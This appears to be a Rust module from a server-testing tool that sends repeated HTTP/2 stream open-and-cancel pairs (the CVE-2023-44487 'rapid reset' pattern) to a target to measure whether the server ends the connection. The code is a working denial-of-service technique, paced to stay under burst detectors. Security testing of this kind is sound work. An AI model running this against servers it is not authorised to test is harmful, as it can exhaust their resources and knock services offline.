//! The HTTP/2 "rapid reset" pattern (CVE-2023-44487): on one connection, open a stream and
//! reset it at once, again and again. Each pair costs the client two small frames and the
//! server a request it starts working on (for an authenticated path: an auth check). A server
//! that bounds this ends the connection (GOAWAY) after some number of pairs.

use std::time::{Duration, Instant};

use h2::Reason;

use crate::{tls, within, Error, Target};

/// What happened on the connection.
#[derive(Debug, Clone)]
pub struct RapidResetReport {
    /// HEADERS + RST_STREAM pairs sent.
    pub pairs: u64,
    pub elapsed: Duration,
    /// Pairs sent when the server ended the connection, and how (`None`: it never did).
    pub ended_after: Option<(u64, String)>,
}

/// Sends up to `pairs` pairs for `path` with `headers`, for at most `duration`, `per_ms` pairs
/// per millisecond. A steady rate (the 4 per millisecond is 20,000 in 5 s) stays under
/// the per-event-loop-iteration limits servers apply to new streams (nginx: 2 × max concurrent
/// streams), so what is measured is the per-connection bound, not the burst detector.
pub async fn run(
    target: &Target,
    path: &str,
    headers: &[(String, String)],
    pairs: u64,
    per_ms: u64,
    duration: Duration,
) -> Result<RapidResetReport, Error> {
    let connector = tls::connector(&[b"h2"])?;
    let tls = tls::connect(target, &connector).await?;
    if !tls::is_h2(&tls) {
        return Err(Error::NoH2);
    }
    let (mut sender, connection) = within(tls::HANDSHAKE_TIMEOUT, "the HTTP/2 handshake", async {
        Ok(h2::client::handshake(tls).await?)
    })
    .await?;
    let mut driver = tokio::spawn(connection);
    let began = Instant::now();
    let mut sent = 0u64;
    let mut ended = None;
    while sent < pairs && began.elapsed() < duration {
        if driver.is_finished() {
            break;
        }
        let ready = tokio::time::timeout(Duration::from_secs(2), sender.clone().ready()).await;
        let Ok(Ok(ready)) = ready else {
            break;
        };
        sender = ready;
        let mut request = target.request("GET", path);
        for (name, value) in headers {
            request = request.header(name, value);
        }
        match sender.send_request(request.body(())?, false) {
            Ok((response, mut stream)) => {
                stream.send_reset(Reason::CANCEL);
                drop(response);
                sent += 1;
            }
            Err(_) => break,
        }
        if sent.is_multiple_of(per_ms.max(1)) {
            let due = Duration::from_micros(sent * 1000 / per_ms.max(1));
            if let Some(wait) = due.checked_sub(began.elapsed()) {
                tokio::time::sleep(wait).await;
            }
        }
    }
    // Did the server end it? Give its GOAWAY a moment to arrive.
    match tokio::time::timeout(Duration::from_secs(1), &mut driver).await {
        Ok(Ok(Ok(()))) => ended = Some((sent, "closed".to_string())),
        Ok(Ok(Err(err))) => {
            let how = match err.reason() {
                Some(reason) if err.is_go_away() => format!("GOAWAY {reason:?}"),
                _ if err.is_io() => "closed without GOAWAY".to_string(),
                _ => err.to_string(),
            };
            ended = Some((sent, how));
        }
        _ => {}
    }
    driver.abort();
    Ok(RapidResetReport {
        pairs: sent,
        elapsed: began.elapsed(),
        ended_after: ended,
    })
}
